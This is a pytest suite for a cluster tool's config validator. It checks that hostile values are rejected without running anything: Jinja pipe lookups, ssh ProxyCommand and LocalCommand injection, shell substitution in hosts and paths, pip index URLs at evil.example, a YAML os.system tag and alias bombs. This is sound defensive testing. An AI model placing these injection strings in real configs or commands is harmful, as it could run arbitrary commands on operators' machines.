"""Hostile cluster configs: values are data, never code, and the file is read with bounds.

Each case drives the real CLI (``grid-ops config validate -c FILE``) as a user would and
expects exit code 2, the offending field named, no traceback, and nothing run: a value
that would touch MARKER if anything ever evaluated it leaves no MARKER. The file-level
cases (FIFO, device, size, nesting, aliases) and a sample of the value cases run it in a
subprocess; the many value cases call the same console entry point in this process
(``grid_ops.cli.quick.main`` with its argv), which is the same code without the start-up.
"""

from __future__ import annotations

import itertools
import json
import os
import re
import socket
import subprocess
import sys
from collections.abc import Callable
from pathlib import Path
from typing import Any

import pytest
import yaml

from grid_ops.errors import ConfigError
from grid_ops.model import config


def run_validate(cwd: Path, *args: str, timeout: float = 60) -> subprocess.CompletedProcess[str]:
    env = {k: v for k, v in os.environ.items() if k != "GRID_OPS_CONFIG"}
    env["COLUMNS"] = "200"
    return subprocess.run(
        [sys.executable, "-m", "grid_ops", "config", "validate", *args],
        cwd=cwd,
        env=env,
        capture_output=True,
        text=True,
        timeout=timeout,
        check=False,
    )


Validate = Callable[..., subprocess.CompletedProcess[str]]


@pytest.fixture
def validate(capsys: pytest.CaptureFixture[str], monkeypatch: pytest.MonkeyPatch) -> Validate:
    """``grid-ops config validate ARGS`` through the console entry point, in this process."""
    from grid_ops.cli import quick

    monkeypatch.delenv("GRID_OPS_CONFIG", raising=False)
    monkeypatch.delenv("GRID_OPS_DEBUG", raising=False)

    def run(cwd: Path, *args: str) -> subprocess.CompletedProcess[str]:
        argv = ["grid-ops", "config", "validate", *args]
        monkeypatch.setattr(sys, "argv", argv)
        monkeypatch.chdir(cwd)
        capsys.readouterr()
        code: Any = 0
        try:
            quick.main()
        except SystemExit as exc:
            code = exc.code
        captured = capsys.readouterr()
        return subprocess.CompletedProcess(argv, code or 0, captured.out, captured.err)

    return run


def base() -> dict[str, Any]:
    return {
        "name": "hostile",
        "nodes": [
            {"name": "a", "host": "10.0.0.1", "user": "ops"},
            {"name": "b", "host": "10.0.0.2"},
        ],
    }


def with_value(path: str, value: Any) -> dict[str, Any]:
    """The base config with ``value`` at ``path`` (``nodes[1].host``, ``ray.nodes.a.x``)."""
    data = base()
    parts: list[str | int] = [
        int(p[1:-1]) if p.startswith("[") else p for p in re.findall(r"\[\d+\]|[^.\[\]]+", path)
    ]
    container: Any = data
    for part, after in itertools.pairwise(parts):
        if isinstance(part, int):
            container = container[part]
        else:
            container = container.setdefault(part, [] if isinstance(after, int) else {})
    last = parts[-1]
    if isinstance(last, int):
        container.extend([None] * (last + 1 - len(container)))
    container[last] = value
    return data


def assert_refused(result: subprocess.CompletedProcess[str], *in_stderr: str) -> None:
    assert result.returncode == 2, (result.stdout, result.stderr)
    assert result.stdout == ""
    assert "error:" in result.stderr
    for text in in_stderr:
        assert text in result.stderr, result.stderr
    assert "Traceback" not in result.stderr
    assert "grid-ops bug" not in result.stderr


# A value that creates MARKER if anything ever templated it (Ansible's pipe lookup).
def jinja(marker: Path) -> str:
    return "{{ lookup('pipe', 'touch " + str(marker) + "') }}"


JINJA_FIELDS = [
    "name",
    "nodes[1].host",
    "nodes[0].user",
    "nodes[0].tags[0]",
    "remote_root",
    "python_interpreter",
    "ray.version",
    "ray.dashboard_host",
    "ray.nodes.a.node_ip",
    "provision.packages[0]",
    "sync.exclude_patterns[0]",
    "ssh.extra_args[0]",
    "ssh.key_file",
    "ssh.config_file",
    "provision.wheelhouse",
]


@pytest.mark.parametrize("path", JINJA_FIELDS)
def test_template_syntax_is_refused(tmp_path: Path, validate: Validate, path: str) -> None:
    marker = tmp_path / "MARKER"
    cfg = tmp_path / "cluster.yaml"
    cfg.write_text(yaml.safe_dump(with_value(path, jinja(marker))), encoding="utf-8")

    result = validate(tmp_path, "-c", str(cfg))

    assert_refused(result, f"{path}: contains template syntax", "never templated")
    assert not marker.exists()


@pytest.mark.parametrize("opener", ["{%", "{#"])
def test_every_jinja_opener_is_refused(tmp_path: Path, validate: Validate, opener: str) -> None:
    cfg = tmp_path / "cluster.yaml"
    value = f"~/x{opener} if true %}}y"
    cfg.write_text(yaml.safe_dump(with_value("remote_root", value)), encoding="utf-8")
    assert_refused(validate(tmp_path, "-c", str(cfg)), f"template syntax '{opener}'")


@pytest.mark.parametrize(
    ("path", "value", "in_stderr"),
    [
        ("nodes[1].host", "JINJA", "template syntax"),
        ("remote_root", "JINJA", "template syntax"),
        ("ssh.extra_args[0]", "-oProxyCommand=touch MARKER", "ProxyCommand runs a command"),
        ("nodes[1].host", "-oProxyCommand=touch MARKER", "hostname"),
        ("nodes[0].memory_gb", float("inf"), "finite number"),
    ],
)
def test_refused_by_the_installed_command(
    tmp_path: Path, path: str, value: Any, in_stderr: str
) -> None:
    """A sample of the cases below through the real process, as a user runs it."""
    marker = tmp_path / "MARKER"
    if value == "JINJA":
        value = jinja(marker)
    elif isinstance(value, str):
        value = value.replace("MARKER", str(marker))
    cfg = tmp_path / "cluster.yaml"
    cfg.write_text(yaml.safe_dump(with_value(path, value)), encoding="utf-8")

    assert_refused(run_validate(tmp_path, "-c", str(cfg)), f"{path}: ", in_stderr)
    assert not marker.exists()


HOSTILE = [
    # option injection: ssh / pip read a leading '-' as an option
    ("nodes[1].host", "-oProxyCommand=touch MARKER", "hostname"),
    ("nodes[1].host", "-F/tmp/x", "not starting with '-'"),
    ("nodes[0].user", "-oProxyCommand=touch MARKER", "user name"),
    ("nodes[0].user", "root;touch MARKER", "user name"),
    ("nodes[0].user", "ops$", "user name"),
    # control characters and shell characters in a host
    ("nodes[1].host", "gpu1\nProxyCommand touch MARKER", "control character"),
    ("nodes[1].host", "gpu\t1", "control character"),
    ("nodes[1].host", "gpu\x1b[31m1", "control character"),
    ("nodes[1].host", "gpu1;touch MARKER", "hostname"),
    ("nodes[1].host", "$(touch MARKER)", "hostname"),
    ("nodes[1].host", "user@gpu1", "hostname"),
    ("nodes[1].host", "[::1]", "IPv6"),
    ("nodes[1].host", "fe80::1%$(touch MARKER)", "IPv6 zone"),
    ("nodes[1].host", "999.1.1.1", "IPv4"),
    ("nodes[1].host", "", "hostname"),
    # remote_root: shell characters, and directories that would be disastrous to own
    ("remote_root", "~/x;touch MARKER", "absolute path"),
    ("remote_root", "~/$(touch MARKER)", "absolute path"),
    ("remote_root", "~/`touch MARKER`", "absolute path"),
    ("remote_root", "/srv/grid ops", "absolute path"),
    ("remote_root", "", "absolute path"),
    ("remote_root", "/", "not / or ~ itself"),
    ("remote_root", "~", "not / or ~ itself"),
    ("remote_root", "~/", "not / or ~ itself"),
    # ... nor / or ~ spelled longer: each normalises to / or the home, whose own files
    # grid-ops would then sit among
    ("remote_root", "/.", "not / or ~ itself"),
    ("remote_root", "/./.", "not / or ~ itself"),
    ("remote_root", "//", "not / or ~ itself"),
    ("remote_root", "//.//./", "not / or ~ itself"),
    ("remote_root", "~/.", "not / or ~ itself"),
    ("remote_root", "~/./", "not / or ~ itself"),
    ("remote_root", "~//", "not / or ~ itself"),
    ("remote_root", "~/././/.", "not / or ~ itself"),
    ("remote_root", "$HOME", "absolute path"),
    ("remote_root", "${HOME}/", "absolute path"),
    ("remote_root", "~/$HOME", "absolute path"),
    ("remote_root", "relative/path", "absolute path"),
    ("remote_root", "/a/../b", "without '..'"),
    ("remote_root", "~/../../etc", "without '..'"),
    ("remote_root", "~/a~b", "absolute path"),
    ("python_interpreter", "python3", "absolute path"),
    ("python_interpreter", "~/venv/bin/python", "absolute path"),
    ("python_interpreter", "/usr/bin/python3 -c 'import os'", "absolute path"),
    # pip: options, URLs and VCS instead of requirements
    ("provision.packages[0]", "--index-url=http://evil.example/simple", "pip option"),
    ("provision.packages[0]", "-e .", "pip option"),
    ("provision.packages[0]", "-r /etc/passwd", "pip option"),
    ("provision.packages[0]", "git+https://github.com/x/y.git", "pip requirement"),
    ("provision.packages[0]", "foo @ https://evil.example/foo.whl", "from a URL"),
    ("provision.packages[0]", "torch==2.13.0; touch MARKER", "pip requirement"),
    # ssh options that run commands
    ("ssh.extra_args[0]", "-oProxyCommand=touch MARKER", "ProxyCommand runs a command"),
    ("ssh.extra_args[0]", "-o ProxyCommand touch MARKER", "ProxyCommand runs a command"),
    ("ssh.extra_args[0]", "-oproxycommand=touch MARKER", "ProxyCommand runs a command"),
    ("ssh.extra_args[0]", "-oLocalCommand=touch MARKER", "LocalCommand runs a command"),
    ("ssh.extra_args[0]", "-oPermitLocalCommand=yes", "PermitLocalCommand runs a command"),
    ("ssh.extra_args[0]", "-oKnownHostsCommand=touch MARKER", "KnownHostsCommand"),
    ("ssh.extra_args[0]", "-oMatch=exec true", "Match runs a command"),
    ("ssh.extra_args[0]", "-oProxyJump=x;touch MARKER", "may use only"),
    ("ssh.extra_args[0]", "-F/tmp/evil_ssh_config", "-oName=value"),
    ("ssh.extra_args[0]", "touch", "-oName=value"),
    ("sync.exclude_patterns[0]", "--delete", "not starting with '-'"),
    ("sync.exclude_patterns[0]", "a\nb", "control character"),
    ("ray.version", "latest", "PEP 440"),
    ("ray.dashboard_host", "evil.example", "IP address"),
    ("nodes[0].name", "a b", "must be a name"),
    ("ray.nodes.a.node_ip", "10.0.0.1; touch MARKER", "IPv4 or IPv6"),
    ("name", "ok\n", "control character"),
    ("nodes[0].tags[0]", "gpu\n", "control character"),
    ("ssh.known_hosts_file", "/tmp/kh\x1b]0;pwned\x07", "control character"),
    # numbers: finite, bounded, and no bools or floats for ints
    ("nodes[0].gpu_count", 1e32, "valid integer"),
    ("nodes[0].gpu_count", "1e32", "valid integer"),
    ("nodes[0].gpu_count", True, "valid integer"),
    ("nodes[0].gpu_count", -1, "greater than or equal to 0"),
    ("nodes[0].gpu_count", 4096, "less than or equal to 1024"),
    ("nodes[0].memory_gb", float("inf"), "finite number"),
    ("nodes[0].memory_gb", float("nan"), "finite number"),
    ("nodes[0].memory_gb", 1e9, "less than or equal to 1000000"),
    ("nodes[0].port", 0, "greater than or equal to 1"),
    ("nodes[0].port", 70000, "less than or equal to 65535"),
    ("nodes[0].port", 22.0, "valid integer"),
    ("ray.port", True, "valid integer"),
    ("ssh.connect_timeout", 10**6, "less than or equal to 600"),
    ("health_check.timeout", 1e9, "less than or equal to 86400"),
    ("ssh.pool_size", 100000, "less than or equal to 1024"),
    ("health_check.cpu_weight", float("inf"), "finite number"),
    ("offload.thresholds.cpu", 101, "less than or equal to 100"),
    ("ray.nodes.a.num_cpus", 10**7, "less than or equal to 100000"),
    ("resource_sharing.memory_pool_gb", -1.0, "greater than or equal to 0"),
]


@pytest.mark.parametrize(
    ("path", "value", "rule"),
    HOSTILE,
    ids=[f"{p}={v!r}"[:60] for p, v, _ in HOSTILE],
)
def test_hostile_value_is_refused(
    tmp_path: Path, validate: Validate, path: str, value: Any, rule: str
) -> None:
    marker = tmp_path / "MARKER"
    if isinstance(value, str):
        value = value.replace("MARKER", str(marker))
    cfg = tmp_path / "cluster.yaml"
    cfg.write_text(yaml.safe_dump(with_value(path, value)), encoding="utf-8")

    result = validate(tmp_path, "-c", str(cfg))

    assert_refused(result, f"{path}: ", rule)
    assert not marker.exists()


def test_hostile_alias_node(tmp_path: Path, validate: Validate) -> None:
    cfg = tmp_path / "cluster.yaml"
    cfg.write_text("nodes: [gpu1, -oProxyCommand=touch_MARKER]\n", encoding="utf-8")
    assert_refused(validate(tmp_path, "-c", str(cfg)), "nodes[1].name", "nodes[1].host")


def test_long_value_is_cut_in_the_message(tmp_path: Path) -> None:
    cfg = tmp_path / "cluster.yaml"
    cfg.write_text(f"nodes: [gpu1, {'x' * 1_000_000}]\n", encoding="utf-8")

    result = run_validate(tmp_path, "-c", str(cfg))

    assert_refused(result, "nodes[1].host", "…(1000000 chars)")
    assert len(result.stderr) < 2000


def test_five_megabyte_value_is_cut_in_the_message() -> None:
    with pytest.raises(ConfigError) as info:
        config.parse(with_value("remote_root", "~/" + "a" * 5_000_000))
    assert info.value.exit_code == 2
    assert "remote_root" in str(info.value)
    assert "…(5000002 chars)" in str(info.value)
    assert len(str(info.value)) < 2000


def test_five_megabyte_file_is_refused_unread(tmp_path: Path) -> None:
    cfg = tmp_path / "cluster.yaml"
    cfg.write_text(f"nodes: [gpu1, {'x' * 5_000_000}]\n", encoding="utf-8")
    result = run_validate(tmp_path, "-c", str(cfg))
    assert_refused(result, "larger than 1024 KiB")
    assert len(result.stderr) < 2000


def test_many_problems_are_listed_briefly(tmp_path: Path, validate: Validate) -> None:
    data = base()
    data["nodes"] = [{"name": f"n{i}", "host": f"-bad{i}"} for i in range(500)]
    cfg = tmp_path / "cluster.yaml"
    cfg.write_text(yaml.safe_dump(data), encoding="utf-8")
    result = validate(tmp_path, "-c", str(cfg))
    assert_refused(result, "(500 problems)", "nodes[0].host", "and 480 more")
    assert len(result.stderr) < 8000


def _alias_bomb() -> str:
    lines = ["nodes: [gpu1]", "x0: &a0 [lol, lol, lol, lol, lol, lol, lol, lol, lol, lol]"]
    for i in range(1, 10):
        lines.append(f"x{i}: &a{i} [{', '.join([f'*a{i - 1}'] * 10)}]")
    return "\n".join([*lines, "sync: {exclude_patterns: *a9}"]) + "\n"


FILES = [
    pytest.param("[" * 20_000 + "]" * 20_000, "nested more than 100 levels", id="deep-list"),
    pytest.param("nodes: [gpu1]\nx: " + "{a: " * 5000 + "1" + "}" * 5000, "nested", id="deep-map"),
    pytest.param(_alias_bomb(), "aliases expand it to more than 100,000 values", id="alias-bomb"),
    pytest.param("nodes: &n [gpu1, *n]\n", "refers to a value that contains it", id="cycle"),
    pytest.param("nodes: [gpu1]\n#" + "x" * (1 << 20), "larger than 1024 KiB", id="over-1MiB"),
    pytest.param("nodes: [gpu1]\nx: 2024-13-45\n", "YAML cannot read", id="bad-date"),
    pytest.param("nodes: [gpu1]\nx: " + "9" * 5000 + "\n", "YAML cannot read", id="huge-int"),
    pytest.param("nodes: [gpu1]\nx: !!python/object/apply:os.system [id]\n", "YAML", id="tag"),
]


@pytest.mark.parametrize(("text", "message"), FILES)
def test_hostile_file_is_refused(tmp_path: Path, text: str, message: str) -> None:
    cfg = tmp_path / "cluster.yaml"
    cfg.write_text(text, encoding="utf-8")
    result = run_validate(tmp_path, "-c", str(cfg))
    assert_refused(result, message)
    assert len(result.stderr) < 2000


def test_fifo_does_not_hang(tmp_path: Path) -> None:
    fifo = tmp_path / "cluster.yaml"
    os.mkfifo(fifo)
    result = run_validate(tmp_path, "-c", str(fifo), timeout=30)
    assert_refused(result, "is a FIFO (named pipe)", "regular file")


def test_device_is_refused(tmp_path: Path) -> None:
    result = run_validate(tmp_path, "-c", "/dev/zero", timeout=30)
    assert_refused(result, "/dev/zero is a character device", "regular file")


def test_socket_is_refused(tmp_path: Path) -> None:
    path = tmp_path / "cluster.yaml"
    with socket.socket(socket.AF_UNIX) as sock:
        sock.bind(str(path))
        with pytest.raises(ConfigError, match="is not a regular file") as info:
            config.load(path)
    assert info.value.exit_code == 2


def test_directory_is_refused(tmp_path: Path) -> None:
    result = run_validate(tmp_path, "-c", str(tmp_path))
    assert_refused(result, "is a directory")


def test_missing_file_is_refused(tmp_path: Path) -> None:
    result = run_validate(tmp_path, "-c", str(tmp_path / "nope.yaml"))
    assert_refused(result, "nope.yaml does not exist")


def test_non_utf8_file_is_refused(tmp_path: Path) -> None:
    cfg = tmp_path / "cluster.yaml"
    cfg.write_bytes(b"nodes: [caf\xe9]\n")
    assert_refused(run_validate(tmp_path, "-c", str(cfg)), "not UTF-8")


# ---------------------------------------------------------------------------------------
# what real configs use still passes


def test_real_values_still_pass(tmp_path: Path, validate: Validate) -> None:
    data = base()
    data["nodes"] += [
        {"name": "v6", "host": "fd00::12"},
        {"name": "link", "host": "fe80::1%eth0"},
        {"name": "alias", "host": "gpu_box_1"},
        {"name": "fqdn", "host": "w2.example.org", "user": "Grid.Ops-1"},
    ]
    data["remote_root"] = "~/grid_workspace/"
    data["python_interpreter"] = "/usr/bin/python3"
    data["ray"] = {"version": "2.60.0", "nodes": {"v6": {"node_ip": "fd00::12"}}}
    data["provision"] = {
        "packages": ["torch==2.13.0", "numpy>=1.26,<3", "ray[default]==2.60.0"],
    }
    data["ssh"] = {"extra_args": ["-oServerAliveInterval=30", "-o ControlPersist=60s", "-C"]}
    cfg = tmp_path / "cluster.yaml"
    cfg.write_text(yaml.safe_dump(data), encoding="utf-8")

    result = validate(tmp_path, "--json", "-c", str(cfg))

    assert result.returncode == 0, result.stderr
    doc = json.loads(result.stdout)
    assert doc["warnings"] == []
    assert [n["host"] for n in doc["nodes"]][2:] == [
        "fd00::12",
        "fe80::1%eth0",
        "gpu_box_1",
        "w2.example.org",
    ]
    loaded = config.load(cfg)
    assert loaded.remote_root == "~/grid_workspace"  # trailing slash normalised away
    assert loaded.ray.version == "2.60.0"
    assert loaded.provision.packages[0] == "torch==2.13.0"
    assert loaded.provision.packages[2] == "ray[default]==2.60.0"
    assert len(loaded.provision.packages) == 3


def test_yaml_merge_keys_still_work(tmp_path: Path) -> None:
    cfg = tmp_path / "cluster.yaml"
    cfg.write_text(
        "nodes:\n"
        "  - &first {name: a, host: 10.0.0.1, user: ops, port: 2222}\n"
        "  - {<<: *first, name: b, host: 10.0.0.2}\n",
        encoding="utf-8",
    )
    nodes = config.load(cfg).nodes
    assert (nodes[1].user, nodes[1].port) == ("ops", 2222)


def test_name_pattern_has_no_trailing_newline_hole() -> None:
    with pytest.raises(ConfigError, match=r"nodes\[0\]\.name"):
        config.parse({"nodes": [{"name": "gpu1\n", "host": "gpu1"}]})


# ---------------------------------------------------------------------------------------
# config validate warns about settings that open the cluster


@pytest.mark.parametrize(
    ("ray", "warning"),
    [
        pytest.param({"dashboard_host": "0.0.0.0"}, "ray.dashboard_host is 0.0.0.0", id="0.0.0.0"),
        pytest.param({"head_bind_all": True}, "ray.dashboard_host is 0.0.0.0", id="head_bind_all"),
        pytest.param({"dashboard_host": "10.0.0.1"}, "run code on the cluster", id="lan-ip"),
        pytest.param({"auth": "none"}, "ray.auth is none", id="auth-none"),
    ],
)
def test_validate_warns_about_an_open_cluster(
    tmp_path: Path, validate: Validate, ray: dict[str, Any], warning: str
) -> None:
    cfg = tmp_path / "cluster.yaml"
    cfg.write_text(yaml.safe_dump({**base(), "ray": ray}), encoding="utf-8")

    table = validate(tmp_path, "-c", str(cfg))
    assert table.returncode == 0, table.stderr
    assert "warning:" in table.stderr and warning in table.stderr
    assert "valid:" in table.stdout

    as_json = validate(tmp_path, "--json", "-c", str(cfg))
    assert as_json.returncode == 0, as_json.stderr
    warnings = json.loads(as_json.stdout)["warnings"]
    assert len(warnings) == 1 and warning in warnings[0]


@pytest.mark.parametrize(
    "ray",
    [{}, {"dashboard_host": "localhost"}, {"dashboard_host": "::1"}, {"auth": "token"}],
)
def test_validate_is_quiet_for_safe_settings(
    tmp_path: Path, validate: Validate, ray: dict[str, Any]
) -> None:
    cfg = tmp_path / "cluster.yaml"
    cfg.write_text(yaml.safe_dump({**base(), "ray": ray}), encoding="utf-8")
    result = validate(tmp_path, "--json", "-c", str(cfg))
    assert result.returncode == 0, result.stderr
    assert json.loads(result.stdout)["warnings"] == []
    assert "warning" not in result.stderr


def test_warnings_are_reusable() -> None:
    cfg = config.parse({"nodes": ["gpu1"], "ray": {"dashboard_host": "0.0.0.0", "auth": "none"}})
    assert len(cfg.warnings()) == 2
    assert config.parse({"nodes": ["gpu1"]}).warnings() == []


def test_head_bind_all_warning_through_the_installed_command(tmp_path: Path) -> None:
    cfg = tmp_path / "cluster.yaml"
    cfg.write_text("nodes: [gpu1]\nray: {head_bind_all: true}\n", encoding="utf-8")
    result = run_validate(tmp_path, "--json", "-c", str(cfg))
    assert result.returncode == 0, result.stderr
    assert "warning:" in result.stderr and "0.0.0.0" in result.stderr
    assert "0.0.0.0" in json.loads(result.stdout)["warnings"][0]


# ---------------------------------------------------------------------------------------
# config validate names ssh.config_file entries that run commands here or open the way back

SSH_MAIN = """\
# ProxyCommand in a comment is not an entry
Host *
  ProxyJump bastion.example.org
  proxycommand=ssh -W %h:%p evil.example.org
  ProxyCommand none
  ForwardAgent no
  FORWARDAGENT "yes"
  LocalCommand touch /tmp/pwned
  PermitLocalCommand = yes
  permitlocalcommand no
  RemoteForward 9000 localhost:22
Include {inc}/*.conf
Include {main}
Include rel.conf
"""
SSH_INCLUDED = """\
Match exec "test -e /tmp/x"
  KnownHostsCommand /usr/local/bin/hostkeys %H
  ForwardAgent $SSH_AUTH_SOCK
"""


def test_validate_names_the_ssh_config_entries_that_run_commands_here(
    tmp_path: Path, validate: Validate, monkeypatch: pytest.MonkeyPatch
) -> None:
    home = tmp_path / "home"
    (home / ".ssh").mkdir(parents=True)
    monkeypatch.setenv("HOME", str(home))
    (home / ".ssh" / "rel.conf").write_text("  RemoteForward=8022 127.0.0.1:22\n")
    inc = tmp_path / "inc"
    inc.mkdir()
    (inc / "a.conf").write_text(SSH_INCLUDED)
    (inc / "b.conf").write_text(f"Include {inc}/a.conf\n")  # a.conf again: read once
    main = tmp_path / "ssh_config"
    main.write_text(SSH_MAIN.format(inc=inc, main=main))  # it includes itself, too
    cfg = tmp_path / "cluster.yaml"
    cfg.write_text(yaml.safe_dump({**base(), "ssh": {"config_file": str(main)}}))

    as_json = validate(tmp_path, "--json", "-c", str(cfg))
    assert as_json.returncode == 0, as_json.stderr
    warnings = json.loads(as_json.stdout)["warnings"]
    named = [w.split(": ", 2)[1:] for w in warnings]
    assert [(where, what.split()[0]) for where, what in named] == [
        (f"{main}, line 4", "proxycommand"),
        (f"{main}, line 7", "FORWARDAGENT"),
        (f"{main}, line 8", "LocalCommand"),
        (f"{main}, line 9", "PermitLocalCommand"),
        (f"{main}, line 11", "RemoteForward"),
        (f"{inc}/a.conf, line 1", "Match"),
        (f"{inc}/a.conf, line 2", "KnownHostsCommand"),
        (f"{inc}/a.conf, line 3", "ForwardAgent"),
        (f"{home}/.ssh/rel.conf, line 1", "RemoteForward"),
    ]
    assert "ProxyJump" not in as_json.stdout.replace("ProxyJump is the plain way", "")
    assert all(f"warning: {w}" in " ".join(as_json.stderr.split()) for w in warnings[:1])

    table = validate(tmp_path, "-c", str(cfg))
    assert table.returncode == 0 and "valid:" in table.stdout
    text = " ".join(table.stderr.split())
    assert text.count("warning:") == len(warnings)
    assert "forwards your SSH agent" in text and "runs that command on this machine" in text

    # only ProxyJump and the harmless values: nothing to say
    main.write_text("Host *\n  ProxyJump bastion\n  ForwardAgent no\n  ProxyCommand=none\n")
    quiet = validate(tmp_path, "--json", "-c", str(cfg))
    assert quiet.returncode == 0 and json.loads(quiet.stdout)["warnings"] == []
    assert "warning" not in quiet.stderr

    main.unlink()  # ssh would fail on it: said, and still exit 0 (validate checks the config)
    gone = validate(tmp_path, "--json", "-c", str(cfg))
    assert gone.returncode == 0
    assert "cannot read" in json.loads(gone.stdout)["warnings"][0]
